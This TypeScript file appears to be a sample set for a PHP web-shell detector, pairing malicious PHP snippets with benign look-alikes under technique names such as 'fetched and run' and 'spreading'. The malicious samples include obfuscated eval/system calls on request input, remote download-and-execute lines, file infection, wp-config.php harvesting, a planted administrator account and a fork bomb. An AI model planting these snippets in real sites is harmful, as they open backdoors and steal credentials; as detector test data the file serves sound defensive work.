import { base64, php } from './spelling.ts'
import type { Technique } from './technique.ts'

/** Small files that name nothing: what they run, and where from, is worked out on the way. */
export const INDIRECT: readonly Technique[] = [
  {
    name: 'names from other places',
    severity: 'suspicious',
    samples: [
      php(`foreach (array('_GET', '_POST') as $from) foreach ($$from as $key => $value) $$key = $value;\n$do($with);`),
      php(`$s = $_SERVER; $u = parse_url($s['REQUEST_URI']); parse_str($u['query'], $q); passthru($q['run']);`),
      php(`define('JOB', $_REQUEST['job']); eval(JOB);`),
      php(
        `$part = array_map('base64_decode', explode('-', $_COOKIE['id']));\ncall_user_func(\n  $part[0],\n  $part[1]\n);`,
      ),
      php(
        `class Later { function __construct($f, $v) { $f($v); } }\n$r = new ReflectionClass('Later'); $r->newInstance($_GET['f'], $_GET['v']);`,
      ),
      php(`$f = substr_replace('syxx', 'stem', 2); $f($_GET['c']);`),
      php(`$f = sprintf('%s%s', 'pass', 'thru'); $f($_REQUEST['c']);`),
      php(`$f = preg_replace('/[0-9]/', '', 's1y2s3t4e5m'); $f($_REQUEST['c']);`),
      php(`$f = rtrim('systemzz', 'z'); $f($_REQUEST['c']);`),
      php(`$n = 'exec'; \${n}($_GET['c'], $lines); print_r($lines);`),
      php(`eval/* a */\n(\n  $_POST /* b */ ['k']\n);`),
      php(`array_map(strrev('metsys'), array($_GET['c']));`),
      php(`forward_static_call_array('system', array($_GET['c']));`),
      php(`$in = file('php://input'); $fn = array_shift($in); echo $fn(trim($in[0]));`),
    ],
    honest: [
      php(`foreach (array('name', 'mail') as $field) { $values[$field] = sanitize_text_field($_POST[$field]); }`),
      php(`define('SHOP_CURRENCY', 'EUR'); echo SHOP_CURRENCY;`),
      php(`$ids = array_map('absint', explode(',', $_GET['ids'])); echo count($ids);`),
      php(`$class = new ReflectionClass('Widget'); $widget = $class->newInstance('title', 3);`),
      php(`$label = sprintf('%s (%d)', $name, $count); echo esc_html($label);`),
    ],
  },
  {
    name: 'kept for the next visit',
    severity: 'suspicious',
    samples: [
      php(`session_start(); if (isset($_POST['v'])) $_SESSION['v'] = $_POST['v']; else eval($_SESSION['v']);`),
      php(`session_start(); $go = 'sys' . 'tem'; $go($_SESSION['next']);`),
      php(`$f = fopen('php://memory', 'w+'); fwrite($f, $_POST['b']); rewind($f); eval(stream_get_contents($f));`),
      php(`$f = tmpfile(); fwrite($f, '<?php ' . $_POST['b']); include stream_get_meta_data($f)['uri'];`),
      php(`file_put_contents('note.html', "<?php\\n"); file_put_contents('note.html', $text, 8); require 'note.html';`),
      php(`$all = unserialize(base64_decode($_COOKIE['state'])); $all->start();`),
    ],
    honest: [
      php(`session_start(); $_SESSION['cart'] = array(); echo count($_SESSION['cart']);`),
      php(`$f = fopen('php://temp', 'w+'); fputcsv($f, $row); rewind($f); echo stream_get_contents($f);`),
      php(`file_put_contents($cache . '/options.php', '<?php return ' . var_export($options, true) . ';');`),
    ],
  },
  {
    name: 'functions that run their argument',
    severity: 'suspicious',
    samples: [
      php(`ob_start(function ($page) { return shell_exec($page); }); echo $_GET['c']; ob_end_flush();`),
      php(`$run = fn($text) => eval($text); $run($_POST['p']);`),
      php(`try { throw new Exception($_GET['c']); } catch (Exception $e) { assert($e->getMessage()); }`),
      php(
        `class Any { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$any = new Any; $any->passthru($_POST['c']);`,
      ),
      php(`$jobs = array('a' => 'shell_exec'); foreach ($_GET as $k => $v) echo $jobs[$k]($v);`),
      php(
        `class Box { static $n = array('r' => '${base64('system')}'); static function __callStatic($k, $a) { $f = base64_decode(self::$n[$k]); return $f($a[0]); } }\nBox::r(getenv('HTTP_X_RUN'));`,
      ),
    ],
    honest: [
      php(`ob_start(function ($page) { return str_replace('http:', 'https:', $page); }); get_header();`),
      php(`try { save($form); } catch (Exception $e) { echo esc_html($e->getMessage()); }`),
      php(`class Proxy { function __call($n, $a) { return call_user_func_array(array($this->inner, $n), $a); } }`),
      php(`$key = base64_decode($settings['key']); $signature = hash_hmac('sha256', $body, $key);`),
    ],
  },
  {
    name: 'fetched and run',
    severity: 'suspicious',
    samples: [
      php(`$at = 'https://example.net/next.txt'; while ($text = file_get_contents($at)) { @eval($text); sleep(9); }`),
      php(`$order = trim(fgets(fopen('http://example.net/order', 'r'))); if ($order) echo shell_exec($order);`),
      php(`exec('cd /tmp; wget -q http://203.0.113.7/k; chmod 755 k; ./k');`),
      php(
        `$c = curl_init($_REQUEST['from']); $f = fopen(basename($_REQUEST['from']), 'wb'); curl_setopt($c, CURLOPT_FILE, $f); curl_exec($c);`,
      ),
      php(`eval('?>' . file_get_contents('zip://banner.jpg#inner'));`),
      php(`include 'phar://banner.jpg/inner.php';`),
      php(
        `function open_it($t) { $t = base64_decode($t); for ($i = 0; $i < strlen($t); $i++) $t[$i] = chr(ord($t[$i]) - 3); return $t; }\neval(open_it('${base64('hydo+%hfkr#4>%,>').repeat(4)}'));`,
      ),
    ],
    honest: [
      php(
        `$list = file_get_contents('https://api.example.com/list.json'); $items = json_decode($list, true); echo count($items);`,
      ),
      php(`exec('git rev-parse HEAD', $lines); echo $lines[0];`),
      php(`$phar = new Phar('tool.phar'); echo count($phar);`),
      php(`$logo = file_get_contents(__DIR__ . '/logo.svg'); echo $logo;`),
    ],
  },
  {
    name: 'spreading',
    severity: 'suspicious',
    samples: [
      php(
        `foreach (glob('*/*.php') as $f) { $old = file_get_contents($f); file_put_contents($f, "<?php @include '/tmp/q'; ?>" . $old); }`,
      ),
      php(
        `foreach (array('images', 'css') as $d) { $n = $d . '/' . uniqid() . '.php'; file_put_contents($n, $body); touch($n, 1400000000); }`,
      ),
      php(`fputs(fopen('stat.php', 'w'), '<?php eval($_POST["s"]); ?>');`),
      php(
        `mysql_query("SELECT '<?php system(\\$_GET[1]); ?>' INTO OUTFILE '/srv/www/s.php'"); fopen('done', 'w'); $t = '<?php system($_GET[1]); ?>';`,
      ),
      php(
        `$h = opendir('/home'); while ($u = readdir($h)) { symlink("/home/$u/public_html/wp-config.php", "s/$u.txt"); symlink("/home/$u/public_html/configuration.php", "s/$u-j.txt"); }`,
      ),
      php(`foreach (glob('/srv/*/htdocs/wp-config.php') as $f) echo file_get_contents($f);`),
      php(
        `$db->query("INSERT INTO wp_users (user_login) VALUES ('backup')"); $db->query("INSERT INTO wp_usermeta VALUES (7, 'wp_capabilities', 'administrator')");`,
      ),
      php(`while (1) pcntl_fork();`),
      php(`echo shell_exec('id'), shell_exec('uname -a'), shell_exec('cat /etc/passwd');`),
    ],
    honest: [
      php(`foreach (glob(__DIR__ . '/parts/*.php') as $part) { require $part; }`),
      php(`foreach ($files as $file) { if (!is_file("$folder/index.php")) touch("$folder/index.html"); }`),
      php(`$wpdb->query($wpdb->prepare("INSERT INTO {$wpdb->prefix}log (text) VALUES (%s)", $text));`),
      php(`$version = shell_exec('uname -r'); echo esc_html($version);`),
    ],
  },
  {
    name: 'names that no one reads',
    severity: 'suspicious',
    samples: [
      php(`$O0OO0O = 'a'; $O00O0O = 'b'; $OO0O0O = strrev('metsys'); $O0O00O = $_GET; $OO0O0O($O0O00O['c']);`),
      php(`$l1lIl1 = $_POST; $lIl1lI = 'c'; $Il1Il1 = $l1lIl1[$lIl1lI]; $l1l1lI = 'assert'; $l1l1lI($Il1Il1);`),
      php(
        `$_="{";$__=$_^"<";$___=$_^">";$____=$_^"/";$_____="_".$__.$___.$____;$______=$$_____;$______[_]($______[__]);$_=$__.$___;$__=$_.$_;`,
      ),
      php(`\${'_'.$k}['a'](\${'_'.$k}['b']);`),
    ],
    honest: [
      php(`$lll = 3; $total_000 = 4; echo $lll + $total_000;`),
      php(`$_ = $translator; echo $_('Hello'), $_('World');`),
    ],
  },
]
